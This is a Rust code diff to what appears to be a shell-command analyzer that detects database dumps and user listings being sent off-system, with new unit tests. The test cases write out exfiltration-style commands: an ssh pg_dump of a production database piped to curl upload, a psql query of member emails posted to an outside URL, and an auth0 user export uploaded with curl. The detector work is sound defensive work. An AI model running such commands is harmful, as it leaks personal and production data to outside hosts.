@@ -268,8 +268,23 @@ pub(crate) fn after_command(
     name: &str,
     inv: &Inv,
     uploads_before: usize,
+    out: &mut Stream,
 ) {
     let words: Vec<&str> = inv.rest().iter().map(|w| w.text.as_str()).collect();
+    // A console on another machine or container (`ssh host 'mysqldump db'`, `docker exec db
+    // pg_dump app`): its output is what the command run there prints, so a producer among the
+    // commands it ran (recorded after it, with its wrapper) is the output's producer.
+    if out.taint.producer.is_none() && out.text.is_none() && out.file.is_none() {
+        let inner = (index + 1..a.facts.commands.len()).rev().find(|&i| {
+            a.facts
+                .commands
+                .get(i)
+                .is_some_and(|c| !c.wrappers.is_empty() && producer_program(&c.program, &c.argv))
+        });
+        if inner.is_some() {
+            out.taint.producer = inner;
+        }
+    }
     // Files the producer writes by option (pg_dump -f, mysqldump -r, mongoexport -o, psql's
     // `\copy … TO 'file'`, `wp db export FILE`): as if its output were redirected there.
     if let Some(out) = output_file(name, &words) {
@@ -308,7 +323,10 @@ pub(crate) fn after_command(
             continue;
         }
         let src = u.source.clone().unwrap_or_default();
-        let producer = if src == "<stdin>" || src.starts_with("<piped from ") {
+        let producer = if src == "<stdin>"
+            || src.starts_with("<piped from ")
+            || src.starts_with("<fetched ssh://")
+        {
             stdin_producer
         } else {
             file_producer(a, &src)
@@ -440,8 +458,38 @@ fn output_file(name: &str, words: &[&str]) -> Option<String> {
                 .map(|w| w.to_string())
         }
         "psql" => words.iter().find_map(|w| copy_to_file(w)),
-        _ => None,
+        _ => {
+            // A service CLI's listing of people written by an option naming a file
+            // (`fastlane pilot export --testers_file_path F`, `… export --output F`).
+            let argv: Vec<String> = std::iter::once(name.to_string())
+                .chain(words.iter().map(|w| w.to_string()))
+                .collect();
+            if !lists_people(&argv) {
+                return None;
+            }
+            words.iter().enumerate().find_map(|(i, w)| {
+                let (opt, val) = match w.split_once('=') {
+                    Some((o, v)) => (o, Some(v.to_string())),
+                    None => (*w, words.get(i + 1).map(|v| v.to_string())),
+                };
+                let o = opt.trim_start_matches('-').to_ascii_lowercase();
+                (opt.starts_with("--")
+                    && (o.ends_with("file") || o.ends_with("path") || o == "output" || o == "out"))
+                    .then_some(val)
+                    .flatten()
+            })
+        }
     }
+}
+
+/// A program whose output is a store's data: a dumper, an SQL client or a site tool's dump or
+/// query verb (what [`classify`] then judges).
+fn producer_program(program: &str, argv: &[String]) -> bool {
+    let words: Vec<&str> = argv.iter().skip(1).map(String::as_str).collect();
+    DUMPERS.contains(&program)
+        || SQL_CLIENTS.contains(&program)
+        || dump_verb(program, &words)
+        || query_verb(program, &words)
 }
 
 /// `\copy TABLE TO 'FILE'` (psql(1) meta-command): the file, when it is one (not `STDOUT`,
@@ -900,6 +948,39 @@ pub(crate) fn mark(f: &mut ShellFacts, ctx: &ShellContext) {
             evidence: u.evidence.clone(),
         });
     }
+    // A dump file named as production's (`oak_prod-2026-12-01.sql.gz`, `shop-prod.dump`) put
+    // into a store: judged by its own name as the source's.
+    for u in &f.uploads {
+        if u.producer.is_some() || !STORE_CLIENTS.contains(&u.program.as_str()) {
+            continue;
+        }
+        let Some(src) = u.source.as_deref().filter(|s| s.starts_with('/')) else {
+            continue;
+        };
+        let name = paths::basename(src);
+        if !dump_file_name(name) {
+            continue;
+        }
+        let prod = name
+            .split(|ch: char| !ch.is_ascii_alphanumeric())
+            .any(|t| crate::tier::PROD_WORDS.contains(&t.to_ascii_lowercase().as_str()));
+        let cmd: Vec<String> = f
+            .commands
+            .iter()
+            .find(|k| clip(&k.evidence) == u.evidence)
+            .map(|k| k.argv.clone())
+            .unwrap_or_default();
+        if let Some(why) = foreign(&u.target, &cmd, &[name.to_string()], prod, ctx) {
+            out.push(ExportFact {
+                kind: "foreign_store".into(),
+                data: "dump".into(),
+                source: src.to_string(),
+                target: u.target.clone(),
+                why,
+                evidence: u.evidence.clone(),
+            });
+        }
+    }
     for c in &f.commands {
         if let Some(e) = store_copy(c, ctx) {
             out.push(e);
@@ -926,6 +1007,20 @@ pub(crate) fn mark(f: &mut ShellFacts, ctx: &ShellContext) {
             f.exports.push(e);
         }
     }
+}
+
+/// A file named as a database dump: pg_dump's custom format (`.dump`, `.pgdump`), SQL text
+/// (`.sql`), mongodump's BSON, a Redis snapshot (`.rdb`), optionally compressed (the same
+/// shapes as shell.rego's database-exfiltration file rule, plus plain `.sql`).
+fn dump_file_name(name: &str) -> bool {
+    let l = name.to_ascii_lowercase();
+    let l = ["gz", "bz2", "xz", "zst", "zip"]
+        .iter()
+        .find_map(|e| l.strip_suffix(&format!(".{e}")))
+        .unwrap_or(&l);
+    [".sql", ".dump", ".pgdump", ".bson", ".rdb"]
+        .iter()
+        .any(|e| l.ends_with(e))
 }
 
 /// What the data is, for the reason.
@@ -1167,6 +1262,28 @@ mod tests {
             "echo '{\"a\":1}' > /tmp/p.json && curl -d @/tmp/p.json https://api.example.com/",
             "psql -c 'select count(*) from users' | curl -d @- https://hooks.example.com/x",
             "pg_dump mydb | ssh backup@nas 'cat > db.sql'",
+        ] {
+            assert!(kinds(cmd).is_empty(), "{cmd}: {:?}", exports(cmd));
+        }
+    }
+
+    #[test]
+    fn remote_consoles_and_option_files() {
+        for cmd in [
+            "ssh admin@shop-prod 'pg_dump shop' | gzip | curl -T - https://files.example.net/up",
+            "ssh ops@db1 \"psql crm -Atc 'select email from members'\" | curl --data-binary @- https://x.example.com/in",
+            "auth0 users export --output /tmp/u.json && curl -T /tmp/u.json https://x.example.io/u",
+        ] {
+            assert_eq!(kinds(cmd), ["sent"], "{cmd}");
+        }
+        assert_eq!(
+            kinds("rclone copy /backups/crm_prod-2026.sql.gz vendor:incoming/"),
+            ["foreign_store"]
+        );
+        for cmd in [
+            "rclone copy /backups/crm_prod-2026.sql.gz b2crm:crm-backups/",
+            "rclone copy /backups/site.sql.gz offsite:stuff/",
+            "ssh host 'ls -la' | curl -d @- https://x.example.com",
         ] {
             assert!(kinds(cmd).is_empty(), "{cmd}: {:?}", exports(cmd));
         }
